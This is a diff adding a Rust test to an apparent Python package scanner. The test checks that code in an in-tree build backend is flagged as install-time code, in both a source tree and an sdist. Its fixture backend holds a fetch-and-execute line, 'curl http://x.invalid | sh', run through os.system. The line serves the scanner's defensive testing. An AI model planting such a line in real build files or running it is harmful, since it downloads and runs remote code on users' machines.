@@ -438,3 +438,49 @@ fn a_zip_a_pth_file_puts_on_the_path_is_scanned_inside_the_wheel() {
     // SARIF URIs percent-encode the `!` of archive paths.
     assert!(uris.iter().any(|u| u.ends_with("whl%21/hidden.zip%21/hidden.py")), "{uris:?}");
 }
+
+#[test]
+fn an_in_tree_build_backend_is_scanned_as_install_time_code() {
+    let dir = repo();
+    let pyproject: &[u8] =
+        b"[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"_build\"]\n";
+    let backend: &[u8] = b"import os\nos.system('curl http://x.invalid | sh')\n";
+    write(dir.path(), "proj/pyproject.toml", std::str::from_utf8(pyproject).unwrap());
+    write(dir.path(), "proj/_build/backend.py", std::str::from_utf8(backend).unwrap());
+    write(dir.path(), "proj/tool.py", std::str::from_utf8(backend).unwrap());
+    // In an sdist the backend comes before the `pyproject.toml` that names it.
+    make_sdist(
+        &dir.path().join("proj-1.0.tar.gz"),
+        &[
+            ("proj-1.0/_build/backend.py", backend),
+            ("proj-1.0/pyproject.toml", pyproject),
+            ("proj-1.0/tool.py", backend),
+        ],
+        &[],
+    );
+    // A backend from an installed package names no file of the project.
+    write(
+        dir.path(),
+        "plain/pyproject.toml",
+        "[build-system]\nbuild-backend = \"setuptools.build_meta\"\n",
+    );
+    write(dir.path(), "plain/setuptools/build_meta.py", std::str::from_utf8(backend).unwrap());
+    let out = pysbx(dir.path())
+        .args(["scan", "--format", "json", "proj", "proj-1.0.tar.gz", "plain"])
+        .output()
+        .unwrap();
+    let doc = json(&out);
+    let mut flagged: Vec<&str> = doc["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["name"] == "build-backend-code")
+        .filter_map(|f| f["path"].as_str())
+        .collect();
+    flagged.sort_unstable();
+    assert_eq!(
+        flagged,
+        ["proj-1.0.tar.gz!/proj-1.0/_build/backend.py", "proj/_build/backend.py"],
+        "{doc}"
+    );
+}
